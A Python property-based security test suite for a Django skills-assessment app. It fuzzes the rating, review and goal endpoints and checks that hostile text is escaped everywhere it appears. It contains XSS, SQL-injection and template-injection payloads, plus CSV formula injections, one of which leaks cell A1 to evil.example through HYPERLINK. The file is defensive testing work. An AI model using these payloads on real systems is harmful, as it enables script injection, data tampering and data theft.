"""Hostile and random input to every state-changing endpoint (docs/security.md).

Property-based (hypothesis): whatever is posted to the rating save, the review
save and the goal save, the answer is never a 5xx; a refusal is a 4xx and
leaves the database as it was; what is accepted is what was sent (a level the
input really means, the text itself) and shows escaped on the page. Each
example runs in a transaction that is rolled back.

Then fixed payloads, stored once, are followed everywhere the text goes: the
pages, the JSON, the team CSV (formula injection guarded) and the PDFs.
"""

from __future__ import annotations

import csv
import io
import json
import re
from contextlib import contextmanager
from datetime import date
from urllib.parse import quote

import pytest
from django.db import transaction
from django.utils.html import escape
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from pypdf import PdfReader

from assessments import services
from assessments.models import Assessment, Goal, Rating
from roles.models import Competency, CompetencyArea
from tests.factories import draft, rate_all, review, submitted
from tests.security.conftest import CODE, fingerprint

pytestmark = pytest.mark.django_db

EXAMPLES = settings(
    max_examples=30,
    deadline=None,
    database=None,  # no example files in the checkout; failures print their input
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

SCRIPT = "<script>alert(1)</script>"
PAYLOADS = [
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "</textarea><script>alert('x')</script>",
    "'; DROP TABLE assessments_rating; --",
    "' OR '1'='1",
    "{{ request.user.password }}{% debug %}",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "javascript:alert(1)",
    'http://evil.example/"onmouseover="alert(1)',
    "www.evil.example/<svg onload=alert(1)>",
    "a\x00b",
    "\x00",
    "\u202egnp.exe",
    "Kemampuan 🙂 — “kutipan” ünïcödé 日本語",
    "\r\n\t ",
    "x" * 2000,
    "x" * 2001,
    "y" * 100_000,
    "",
]
TEXTS = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(max_size=300),
    st.text(alphabet="<>&\"'=+-@ \n/ascript", max_size=60),
)
LEVELS = st.one_of(
    st.sampled_from(
        [
            "0",
            "1",
            "2",
            "3",
            "4",
            "",
            " ",
            "5",
            "-1",
            "2.5",
            "2.0",
            " 3 ",
            "+4",
            "٣",
            "²",
            "Ⅳ",
            "0x3",
            "1e0",
            "1_0",
            "NaN",
            "inf",
            "-0",
            "None",
            "null",
            "[2]",
            "3; DROP TABLE x",
            "99999999999999999999999999",
            SCRIPT,
        ]
    ),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.text(max_size=12),
)
REVISIONS = st.one_of(
    st.none(),
    st.sampled_from(["", "0", "1", "-1", "²", "١", "abc", "1.5", "99999999999999999999999"]),
)
CODES = st.one_of(
    st.sampled_from(
        [
            "nope",
            "programming",
            "programming.python.x",
            "PROGRAMMING.PYTHON",
            "' OR 1=1 --",
            "%00",
            "..",
            "<script>",
            "programming.python\x00",
        ]
    ),
    st.text(min_size=1, max_size=40),
)
HTMX = {"HTTP_HX_REQUEST": "true"}


def readings(raw: str) -> set[int]:
    """The integers a lenient reader could take ``raw`` for."""
    found = set()
    try:
        found.add(int(raw))
    except ValueError:
        pass
    try:
        number = float(raw)
        if number.is_integer():
            found.add(int(number))
    except (ValueError, OverflowError):
        pass
    return found


def check_level(raw: str, before, after, accepted: bool):
    in_scale = {n for n in readings(raw) if 0 <= n <= 4}
    if not accepted:
        return
    if raw.strip() == "":
        assert after == before, f"a blank level changed the rating: {raw!r}"
    else:
        assert in_scale, f"accepted the level {raw!r}"
        assert after in in_scale, f"{raw!r} was saved as {after!r}"


def check_text(raw: str, stored: str, accepted: bool, limit: int = 2000):
    if not accepted:
        return
    assert stored in (raw, raw.strip()), f"{raw[:80]!r} was saved as {stored[:80]!r}"
    assert "\x00" not in stored
    assert len(stored) <= limit


def assert_not_raw(html: str, *texts: str):
    """User text holding a script payload never reaches the page unescaped.

    Only the payloads (which carry ``alert``) are looked for raw: a random
    text such as ``<`` or ``<script src`` is in every page anyway. Random
    text is checked the other way, by finding it escaped where it shows."""
    for text in texts:
        if text and "<" in text and "alert" in text:
            assert text not in html, f"unescaped on the page: {text[:80]!r}"


def accepted(response) -> bool:
    assert response.status_code < 500, response.status_code
    if response.status_code in (200, 302):
        return True
    assert response.status_code in (400, 403, 404, 409), response.status_code
    return False


def rolled_back():
    """A transaction whose changes are thrown away at its end."""

    class _RolledBack:
        def __enter__(self):
            self.atomic = transaction.atomic()
            self.atomic.__enter__()

        def __exit__(self, *exc):
            transaction.set_rollback(True)
            return self.atomic.__exit__(*exc)

    return _RolledBack()


def rating_row(assessment, code=CODE):
    return (
        Rating.objects.filter(assessment=assessment, competency__code=code)
        .values_list(
            "level", "evidence", "revision", "manager_level", "manager_comment", "manager_revision"
        )
        .get()
    )


def post_row(client, url, data, revision, htmx):
    """Post one row (with ``revision`` when there is one): never a 5xx, and a
    refusal leaves the database as it was. Returns the response and whether
    it was accepted."""
    if revision is not None:
        data = {**data, "revision": revision}
    before = fingerprint()
    response = client.post(url, data, **(HTMX if htmx else {}))
    ok = accepted(response)
    if not ok:
        assert fingerprint() == before, f"refused ({response.status_code}) but changed"
    return response, ok


@contextmanager
def rating_row_posted(client, assessment, endpoint, data, revision, htmx):
    """``post_row`` to the ``endpoint`` ("ratings" or "review") of ``CODE``'s rating,
    in a transaction rolled back when the block ends: gives the response, whether
    it was accepted, and the row before and after."""
    with rolled_back():
        row_before = rating_row(assessment)
        url = f"/assessments/{assessment.pk}/{endpoint}/{CODE}/"
        response, ok = post_row(client, url, data, revision, htmx)
        yield response, ok, row_before, rating_row(assessment)


def assert_escaped_on(client, pages, text):
    """Each page shows the saved ``text`` escaped, never as markup."""
    for page in pages:
        html = client.get(page).content.decode()
        assert escape(text) in html, page
        assert_not_raw(html, text)


def post_whole_form(client, url, prefixed):
    """Post a whole form of hostile rows: never a 5xx, a refusal changes nothing."""
    data = {f"{CODE}-{name}": value for name, value in prefixed.items()}
    with rolled_back():
        before = fingerprint()
        response = client.post(url, data)
        if not accepted(response):
            assert fingerprint() == before
        assert_not_raw(response.content.decode(), *prefixed.values())


# --- rating save ------------------------------------------------------------------


@EXAMPLES
@given(level=LEVELS, evidence=TEXTS, revision=REVISIONS, htmx=st.booleans())
@example(level="9", evidence=SCRIPT, revision="²", htmx=False)  # once a 500
@example(level="3", evidence="a\x00b", revision="1", htmx=True)
def test_rating_save_takes_only_what_is_valid_and_never_fails(
    scene, level, evidence, revision, htmx
):
    client, assessment = scene.client("owner"), scene.draft
    data = {"level": level, "evidence": evidence}
    with rating_row_posted(client, assessment, "ratings", data, revision, htmx) as posted:
        response, ok, row_before, row_after = posted
        check_level(level, row_before[0], row_after[0], ok)
        check_text(evidence, row_after[1], ok)
        assert_not_raw(response.content.decode(), evidence)
        if ok and "<" in row_after[1]:
            assert_escaped_on(client, [f"/assessments/{assessment.pk}/"], row_after[1])


@EXAMPLES
@given(code=CODES, htmx=st.booleans())
def test_rating_save_of_an_unknown_competency_is_404_and_saves_nothing(scene, code, htmx):
    valid = set(Competency.objects.values_list("code", flat=True))
    client, assessment = scene.client("owner"), scene.draft
    url = f"/assessments/{assessment.pk}/ratings/{quote(code, safe='')}/"
    with rolled_back():
        before = fingerprint()
        response = client.post(url, {"level": "3", "evidence": SCRIPT}, **(HTMX if htmx else {}))
        if code in valid:
            return
        assert response.status_code in (400, 404), response.status_code
        assert fingerprint() == before
        assert_not_raw(response.content.decode(), code, SCRIPT)


@pytest.mark.parametrize("code", ["programming.python%00", "%00", "x%01y", "%7F"])
@pytest.mark.parametrize("endpoint", ["ratings", "review", "plan"])
def test_control_characters_in_a_code_are_404_not_a_database_error(scene, code, endpoint):
    """PostgreSQL refuses NUL in text: such a code must never reach a query."""
    role, assessment = (
        ("manager", scene.submitted) if endpoint == "review" else ("owner", scene.draft)
    )
    client = scene.client(role)
    before = fingerprint()
    for extra in ({}, HTMX):
        response = client.post(
            f"/assessments/{assessment.pk}/{endpoint}/{code}/",
            {"level": "3", "text": "x", "status": "done"},
            **extra,
        )
        assert response.status_code == 404, (extra, response.status_code)
    assert fingerprint() == before


def test_rating_save_of_a_competency_outside_the_profile_is_404(scene):
    area = CompetencyArea.objects.order_by("order").first()
    Competency.objects.create(area=area, code="programming.cobol", name="COBOL", order=99)
    client = scene.client("owner")
    before = fingerprint()
    response = client.post(
        f"/assessments/{scene.draft.pk}/ratings/programming.cobol/", {"level": "3"}
    )
    assert response.status_code == 404
    assert fingerprint() == before


@pytest.mark.parametrize(
    "pk", ["99999999999999999999", "9223372036854775807", "9223372036854775808", "0"]
)
def test_out_of_range_ids_are_404(scene, pk):
    client = scene.client("owner")
    for url in (
        f"/assessments/{pk}/",
        f"/assessments/{pk}/report/",
        f"/assessments/{pk}/report.json",
        f"/teams/{pk}/",
    ):
        assert client.get(url).status_code == 404, url
    before = fingerprint()
    assert client.post(f"/assessments/{pk}/ratings/{CODE}/", {"level": "2"}).status_code == 404
    assert fingerprint() == before


def test_saves_on_other_peoples_assessments_are_refused_and_change_nothing(
    scene, teammate, outsider
):
    theirs = [draft(teammate), submitted(outsider)]
    client = scene.client("owner")
    before = fingerprint()
    for assessment in theirs:
        base = f"/assessments/{assessment.pk}"
        for url, data in (
            (f"{base}/ratings/{CODE}/", {"level": "4", "evidence": "mine now"}),
            (f"{base}/submit/", {}),
            (f"{base}/plan/{CODE}/", {"text": "mine now", "status": "done"}),
            (f"{base}/review/{CODE}/", {"level": "0", "comment": "mine now"}),
        ):
            for extra in ({}, HTMX):
                response = client.post(url, data, **extra)
                assert response.status_code == 404, (url, extra, response.status_code)
    assert fingerprint() == before


# --- review save ------------------------------------------------------------------


@EXAMPLES
@given(level=LEVELS, comment=TEXTS, revision=REVISIONS, htmx=st.booleans())
@example(level="9", comment=SCRIPT, revision="²", htmx=False)  # once a 500
def test_review_save_takes_only_what_is_valid_and_never_fails(
    scene, level, comment, revision, htmx
):
    client, assessment = scene.client("manager"), scene.submitted
    data = {"level": level, "comment": comment}
    with rating_row_posted(client, assessment, "review", data, revision, htmx) as posted:
        response, ok, row_before, row_after = posted
        if not ok:
            assert Assessment.objects.get(pk=assessment.pk).status == "submitted"
        check_level(level, row_before[3], row_after[3], ok)
        check_text(comment, row_after[4], ok)
        if ok:
            assert row_after[:3] == row_before[:3], "a review changed the self-rating"
        assert_not_raw(response.content.decode(), comment)
        if ok and "<" in row_after[4]:
            pages = [f"/assessments/{assessment.pk}/{page}/" for page in ("review", "report")]
            assert_escaped_on(client, pages, row_after[4])


@EXAMPLES
@given(prefixed=st.dictionaries(st.sampled_from(["level", "comment", "revision"]), TEXTS))
def test_the_whole_review_form_never_fails_on_hostile_rows(scene, prefixed):
    assessment = scene.submitted
    post_whole_form(scene.client("manager"), f"/assessments/{assessment.pk}/review/", prefixed)


@EXAMPLES
@given(prefixed=st.dictionaries(st.sampled_from(["level", "evidence", "revision"]), TEXTS))
def test_the_whole_rating_form_never_fails_on_hostile_rows(scene, prefixed):
    assessment = scene.draft
    post_whole_form(scene.client("owner"), f"/assessments/{assessment.pk}/", prefixed)


# --- goal save --------------------------------------------------------------------

DATES = st.one_of(
    st.sampled_from(
        [
            "",
            "2030-01-31",
            "2024-02-30",
            "0000-01-01",
            "0001-01-01",
            "9999-12-31",
            "99999-01-01",
            "-1",
            "31/12/2030",
            "2030-13-01",
            "today",
            SCRIPT,
            "2030-01-31\x00",
        ]
    ),
    st.dates().map(date.isoformat),
    st.text(max_size=20),
)
STATUSES = st.one_of(
    st.sampled_from(["not_started", "in_progress", "done", "", "DONE", "abandoned", SCRIPT]),
    st.text(max_size=20),
)


@EXAMPLES
@given(text=TEXTS, due=DATES, status=STATUSES, revision=REVISIONS, htmx=st.booleans())
@example(text=SCRIPT, due="", status="done", revision="²", htmx=False)  # once a 500
@example(text="<", due="", status="not_started", revision=None, htmx=False)
def test_goal_save_takes_only_what_is_valid_and_never_fails(
    scene, text, due, status, revision, htmx
):
    client, assessment = scene.client("owner"), scene.draft
    url = f"/assessments/{assessment.pk}/plan/{CODE}/"
    data = {"text": text, "due_date": due, "status": status}
    with rolled_back():
        response, ok = post_row(client, url, data, revision, htmx)
        assert_not_raw(response.content.decode(), text)
        goal = Goal.objects.filter(assessment=assessment, competency__code=CODE).first()
        if ok and goal is not None:
            check_text(text, goal.text, ok)
            assert goal.status == status
            if due.strip():
                assert goal.due_date is not None
            if "<" in goal.text:
                assert_escaped_on(client, [f"/assessments/{assessment.pk}/plan/"], goal.text)
        if status not in Goal.Status.values:
            assert not ok or goal is None


@EXAMPLES
@given(rows=st.dictionaries(st.sampled_from(["text", "due_date", "status", "revision"]), TEXTS))
def test_the_whole_plan_form_never_fails_on_hostile_rows(scene, rows):
    assessment = scene.draft
    post_whole_form(scene.client("owner"), f"/assessments/{assessment.pk}/plan/", rows)


@EXAMPLES
@given(
    profile=st.one_of(st.sampled_from(["", "nope", SCRIPT, "startup-generalist\x00"]), st.text())
)
def test_starting_an_assessment_with_an_unknown_profile_is_400(scene, profile):
    client = scene.client("outsider")
    with rolled_back():
        before = fingerprint()
        response = client.post("/assessments/new/", {"role_profile": profile})
        assert response.status_code == 400
        assert fingerprint() == before
        assert_not_raw(response.content.decode(), profile)


# --- hostile text followed everywhere it goes --------------------------------------

MARKUP = "<b>bold</b><script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example","x")'


@pytest.fixture
def hostile(scene, manager):
    """Hostile text in every field a user fills, on a reviewed assessment, and
    hostile names (an administrator may type anything into a name)."""
    engineer = scene.users["owner"]
    engineer.first_name, engineer.last_name = FORMULA, "<i>Eko</i>"
    engineer.save()
    assessment = submitted(engineer)
    review(manager, assessment, CODE, 0, comment=f"comment {MARKUP}")
    Rating.objects.filter(assessment=assessment, competency__code=CODE).update(
        evidence=f"evidence {MARKUP} +SUM(1)"
    )
    services.goal_save(
        user=engineer,
        assessment=assessment,
        competency_code=CODE,
        text=f"goal {MARKUP}",
        revision=0,
    )
    return assessment


def test_hostile_text_is_escaped_on_every_page(scene, hostile):
    pages = {
        "owner": [f"/assessments/{hostile.pk}/report/", f"/assessments/{hostile.pk}/plan/", "/"],
        "manager": [
            f"/assessments/{hostile.pk}/report/",
            f"/assessments/{hostile.pk}/review/",
            f"/assessments/{hostile.pk}/plan/",
            f"/teams/{scene.team.pk}/",
        ],
    }
    shown = ""
    for role, urls in pages.items():
        client = scene.client(role)
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            html = response.content.decode()
            assert "<script>alert(1)</script>" not in html, url
            assert "<b>bold</b>" not in html, url
            assert "<i>Eko</i>" not in html, url
            shown += html
    for text in ("comment ", "evidence ", "goal "):
        assert escape(text + MARKUP) in shown, text
    # The draft's rating page shows the evidence in its textarea, escaped.
    draft_of = draft(scene.users["owner"])
    rate_all(draft_of)
    html = scene.client("owner").get(f"/assessments/{draft_of.pk}/").content.decode()
    assert escape(f"evidence {MARKUP} +SUM(1)") in html
    assert "<script>alert(1)</script>" not in html


def test_report_json_carries_text_as_data(scene, hostile):
    Competency.objects.filter(code=CODE).update(name_en=MARKUP)
    response = scene.client("manager").get(f"/assessments/{hostile.pk}/report.json")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    document = json.loads(response.content)
    names = {c["code"]: c["name"] for c in document["competencies"]}
    assert names[CODE] == MARKUP


def test_team_csv_guards_every_cell_against_formulas(scene, hostile):
    CompetencyArea.objects.filter(code="programming").update(name_en="@SUM(A1)")
    Competency.objects.filter(code=CODE).update(name_en="-2+3")
    response = scene.client("manager").get(f"/teams/{scene.team.pk}/ratings.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells, "empty CSV"
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous[:5]
    assert f"'{FORMULA} <i>Eko</i>" in cells
    assert "'@SUM(A1)" in cells and "'-2+3" in cells


def pdf_text(content: bytes) -> str:
    reader = PdfReader(io.BytesIO(content))
    return re.sub(r"\s+", " ", " ".join(page.extract_text() for page in reader.pages))


def test_hostile_text_is_printed_as_text_in_the_pdfs(scene, hostile):
    response = scene.client("owner").get(f"/assessments/{hostile.pk}/report.pdf")
    assert response.status_code == 200
    text = pdf_text(response.content)
    # Markup shows as the characters typed: it was escaped, not interpreted.
    assert "<script>alert(1)</script>" in text
    assert "goal <b>bold</b>" in text
    team = scene.client("manager").get(f"/teams/{scene.team.pk}/report.pdf")
    assert team.status_code == 200
    assert "<i>Eko</i>" in pdf_text(team.content)
